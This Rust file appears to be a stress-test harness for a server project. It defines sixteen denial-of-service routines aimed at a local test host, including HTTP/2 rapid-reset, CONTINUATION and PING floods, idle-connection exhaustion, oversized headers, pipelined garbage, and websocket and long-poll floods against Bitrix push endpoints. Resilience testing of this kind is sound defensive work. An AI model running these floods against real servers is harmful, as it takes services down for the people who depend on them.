//! What attackers do, each over and over, from [`ADDRESSES`] addresses.

use std::cell::Cell;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::rc::Rc;
use std::time::Duration;

use futures_util::FutureExt;
use futures_util::future::LocalBoxFuture;
use tokio::io::{AsyncReadExt, AsyncWriteExt, copy, sink, split};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;
use tokio_rustls::client::TlsStream;
use tokio_tungstenite::client_async;

use super::Addresses;
use super::crowd::{ask, open};
use crate::guests::PAGE;
use crate::ledger::NOTHING;
use crate::tls::http2::frames::{END_HEADERS, END_STREAM, Kind, block, frame};
use crate::tls::roads::secure;

const ADDRESSES: usize = 8;

/// The channel to which something is published.
pub(super) const CHANNEL: &str = "a77ac4a77ac4a77ac4a77ac4a77ac400";

/// How long those hold what they have who take nothing.
const HOLD: Duration = Duration::from_secs(20);

/// Whom one attacker attacks, and how often it has.
#[derive(Clone)]
pub(super) struct Target {
    pub(super) addresses: Rc<Addresses>,
    /// [`CHANNEL`] with its signature, as every visitor may have one.
    pub(super) channel: Rc<str>,
    pub(super) nth: usize,
    pub(super) done: Rc<Cell<u64>>,
}

pub(super) struct Attack {
    pub(super) name: &'static str,
    /// How many do it at a time.
    pub(super) clients: usize,
    pub(super) once: fn(Target) -> LocalBoxFuture<'static, io::Result<()>>,
}

macro_rules! attacks {
    ($($name:literal, $clients:literal, $once:ident;)+) => {
        [$(Attack { name: $name, clients: $clients, once: |target| $once(target).boxed_local() }),+]
    };
}

pub(super) const OWN: [Attack; 16] = attacks! {
    "silent connections", 10_000, stay_silent;
    "connections without end", 64, open_and_close;
    "TLS handshakes", 64, shake_hands;
    "HTTP/2: rapid resets", 16, reset_rapidly;
    "HTTP/2: CONTINUATION", 16, continue_without_end;
    "HTTP/2: PING, unread", 16, ping_unread;
    "HTTP/2: PING, read", 16, ping_and_read;
    "HTTP/2: SETTINGS, unread", 16, set_unread;
    "HTTP/2: requests", 16, request_streams;
    "websockets that read nothing", 1_000, listen_unread;
    "websocket pings, unread", 32, websocket_ping_unread;
    "polls that read nothing", 1_000, poll_unread;
    "pages without a cookie", 32, farm_numbers;
    "huge heads", 16, send_huge_heads;
    "pipelined garbage", 32, pipeline_garbage;
    "publishing from outside", 32, publish;
};

impl Target {
    fn does(&self, more: u64) {
        self.done.set(self.done.get() + more);
    }

    async fn connect(&self, address: &str, window: Option<u32>) -> io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        // No port is to wait for what is still on its way.
        socket.set_zero_linger()?;
        if let Some(window) = window {
            socket.set_recv_buffer_size(window)?;
        }
        let own = u8::try_from(self.nth % ADDRESSES + 1).unwrap();
        socket.bind(SocketAddr::new(Ipv4Addr::new(127, 0, 1, own).into(), 0))?;
        socket.connect(address.parse().unwrap()).await
    }

    async fn in_the_clear(&self) -> io::Result<TcpStream> {
        self.connect(&self.addresses.site, None).await
    }

    async fn by_tls(&self, protocol: &str) -> io::Result<TlsStream<TcpStream>> {
        let stream = self.connect(&self.addresses.by_tls, None).await?;
        secure(stream, protocol).await
    }

    /// With windows that nothing fills.
    async fn by_http2(&self) -> io::Result<TlsStream<TcpStream>> {
        let mut stream = self.by_tls("h2").await?;
        let settings = [0, 4, 0x7f, 0xff, 0xff, 0xff];
        let window = (0x7fff_ffff_u32 - 65_535).to_be_bytes();
        let start = [
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
            frame(Kind::Settings, 0, 0, &settings),
            frame(Kind::WindowUpdate, 0, 0, &window),
        ];
        stream.write_all(&start.concat()).await?;
        Ok(stream)
    }

    /// Writes this until the server has had enough.
    async fn flood(&self, stream: &mut (impl AsyncWriteExt + Unpin), frames: &[u8], count: u64) {
        while stream.write_all(frames).await.is_ok() && stream.flush().await.is_ok() {
            self.does(count);
        }
    }
}

fn head() -> Vec<u8> {
    block(&[
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", "site.test"),
        (":path", "/file"),
    ])
}

async fn stay_silent(target: Target) -> io::Result<()> {
    let mut stream = target.in_the_clear().await?;
    target.does(1);
    stream.read_to_end(&mut Vec::new()).await?;
    Ok(())
}

async fn open_and_close(target: Target) -> io::Result<()> {
    target.in_the_clear().await?;
    target.does(1);
    Ok(())
}

async fn shake_hands(target: Target) -> io::Result<()> {
    target.by_tls("http/1.1").await?;
    target.does(1);
    Ok(())
}

async fn reset_rapidly(target: Target) -> io::Result<()> {
    let mut stream = target.by_http2().await?;
    let head = head();
    for round in 0.. {
        let mut together = Vec::new();
        for nth in 0..100 {
            let number = 2 * (100 * round + nth) + 1;
            together.extend(frame(
                Kind::Headers,
                END_HEADERS | END_STREAM,
                number,
                &head,
            ));
            together.extend(frame(Kind::Reset, 0, number, &8_u32.to_be_bytes()));
        }
        stream.write_all(&together).await?;
        stream.flush().await?;
        target.does(100);
    }
    Ok(())
}

async fn continue_without_end(target: Target) -> io::Result<()> {
    let mut stream = target.by_http2().await?;
    let start = frame(Kind::Headers, END_STREAM, 1, &head());
    stream.write_all(&start).await?;
    let field = block(&[("x-flood", &"f".repeat(16_000))]);
    let next = frame(Kind::Continuation, 0, 1, &field);
    target.flood(&mut stream, &next, 1).await;
    Ok(())
}

async fn ping_unread(target: Target) -> io::Result<()> {
    let mut stream = target.by_http2().await?;
    let pings = frame(Kind::Ping, 0, 0, &[7; 8]).repeat(100);
    target.flood(&mut stream, &pings, 100).await;
    Ok(())
}

async fn ping_and_read(target: Target) -> io::Result<()> {
    let (mut reading, mut writing) = split(target.by_http2().await?);
    let pings = frame(Kind::Ping, 0, 0, &[7; 8]).repeat(100);
    let mut unread = sink();
    tokio::select! {
        () = target.flood(&mut writing, &pings, 100) => {}
        _ = copy(&mut reading, &mut unread) => {}
    }
    Ok(())
}

async fn set_unread(target: Target) -> io::Result<()> {
    let mut stream = target.by_http2().await?;
    let settings = frame(Kind::Settings, 0, 0, &[0, 1, 0, 0, 16, 0]).repeat(100);
    target.flood(&mut stream, &settings, 100).await;
    Ok(())
}

/// As many at a time as there may be, and more as soon as they are answered.
async fn request_streams(target: Target) -> io::Result<()> {
    let (mut reading, mut writing) = split(target.by_http2().await?);
    let head = head();
    let asking = async {
        for round in 0.. {
            let request = |nth: u32| {
                let number = 2 * (100 * round + nth) + 1;
                frame(Kind::Headers, END_HEADERS | END_STREAM, number, &head)
            };
            let together: Vec<u8> = (0..100).flat_map(request).collect();
            writing.write_all(&together).await?;
            writing.flush().await?;
            target.does(100);
            sleep(Duration::from_millis(50)).await;
        }
        Ok(())
    };
    let mut unread = sink();
    tokio::select! {
        asked = asking => asked,
        read = copy(&mut reading, &mut unread) => read.map(drop),
    }
}

/// What the kernel takes for who reads nothing, bytes.
const NARROW: Option<u32> = Some(16 << 10);

async fn listen_unread(target: Target) -> io::Result<()> {
    let stream = target.connect(&target.addresses.site, NARROW).await?;
    let id = &target.channel;
    let url = format!("ws://site.test/bitrix/subws/?CHANNEL_ID={id}");
    let _socket = client_async(url, stream).await.map_err(io::Error::other)?;
    target.does(1);
    sleep(HOLD).await;
    Ok(())
}

async fn websocket_ping_unread(target: Target) -> io::Result<()> {
    let stream = target.connect(&target.addresses.site, NARROW).await?;
    let id = &target.channel;
    let url = format!("ws://site.test/bitrix/subws/?CHANNEL_ID={id}");
    let socket = client_async(url, stream).await.map_err(io::Error::other)?;
    // Masked with zeros.
    let mut ping = vec![0x89, 0x80 | 125, 0, 0, 0, 0];
    ping.resize(6 + 125, 0);
    let mut stream = socket.0.into_inner();
    target.flood(&mut stream, &ping.repeat(100), 100).await;
    Ok(())
}

async fn poll_unread(target: Target) -> io::Result<()> {
    let mut stream = target.connect(&target.addresses.site, NARROW).await?;
    let id = &target.channel;
    let poll = format!(
        "GET /bitrix/sub/?CHANNEL_ID={id}&mid={NOTHING} HTTP/1.1\r\nHost: site.test\r\n\r\n"
    );
    stream.write_all(poll.as_bytes()).await?;
    target.does(1);
    sleep(HOLD).await;
    Ok(())
}

/// Robots that take a new number with every page.
async fn farm_numbers(target: Target) -> io::Result<()> {
    let mut sender = open(target.in_the_clear().await?).await?;
    loop {
        ask(&mut sender, "/file", &PAGE).await?;
        target.does(1);
    }
}

/// Every other is too large.
async fn send_huge_heads(target: Target) -> io::Result<()> {
    let mut stream = target.in_the_clear().await?;
    let cookie = "c".repeat(if target.nth.is_multiple_of(2) {
        60_000
    } else {
        70_000
    });
    let request = format!(
        "GET /file HTTP/1.1\r\nHost: site.test\r\nConnection: close\r\nCookie: a={cookie}\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await?;
    target.does(1);
    stream.read_to_end(&mut Vec::new()).await?;
    Ok(())
}

/// Requests behind one another, none of whose answers is waited for, and then no HTTP at all, for as long as it is taken.
async fn pipeline_garbage(target: Target) -> io::Result<()> {
    let mut stream = target.in_the_clear().await?;
    let asked = "GET /file HTTP/1.1\r\nHost: site.test\r\n\r\n".repeat(50);
    stream.write_all(asked.as_bytes()).await?;
    let garbage = b"\x16\x03\x01 no HTTP \0\r\n".repeat(1_000);
    target.flood(&mut stream, &garbage, 1).await;
    Ok(())
}

async fn publish(target: Target) -> io::Result<()> {
    let mut stream = target.in_the_clear().await?;
    let body = "m".repeat(64 << 10);
    let length = body.len();
    let request = format!(
        "POST /bitrix/pub/?CHANNEL_ID={CHANNEL} HTTP/1.1\r\nHost: site.test\r\n\
         Content-Length: {length}\r\n\r\n{body}"
    );
    stream.write_all(request.as_bytes()).await?;
    target.does(1);
    stream.read_to_end(&mut Vec::new()).await?;
    Ok(())
}
